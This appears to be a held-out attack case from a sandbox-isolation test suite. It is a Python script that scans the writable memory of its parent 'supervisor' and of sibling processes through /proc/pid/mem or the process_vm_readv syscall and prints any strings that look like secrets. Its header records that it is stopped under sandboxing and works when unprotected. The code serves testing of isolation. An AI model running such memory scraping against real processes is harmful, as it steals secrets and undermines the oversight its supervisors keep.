# attack: reads the memory of the engine and of its supervisor
# group: held_out
# scoring: sealed
# sandboxed: stopped
# restricted: stopped
# unprotected: works (secret)
from prepare import *

import ctypes
import re

SECRET = re.compile(rb"SECRET-\w+-\w+")


def regions(pid):
    for line in open(f"/proc/{pid}/maps"):
        if " rw-p " in line:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            yield start, min(end - start, 16 << 20)


def by_file(pid):
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for start, length in regions(pid):
            memory.seek(start)
            print(*set(SECRET.findall(memory.read(length))))


def by_call(pid):  # process_vm_readv
    for start, length in regions(pid):
        buffer = ctypes.create_string_buffer(length)
        local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), length)
        remote = (ctypes.c_size_t * 2)(start, length)
        syscall(310, pid, local, 1, remote, 1, 0)
        print(*set(SECRET.findall(buffer.raw)))


finish()
for pid in {os.getppid(), *of_this_place()}:
    attempt(lambda: by_file(pid), lambda: by_call(pid))
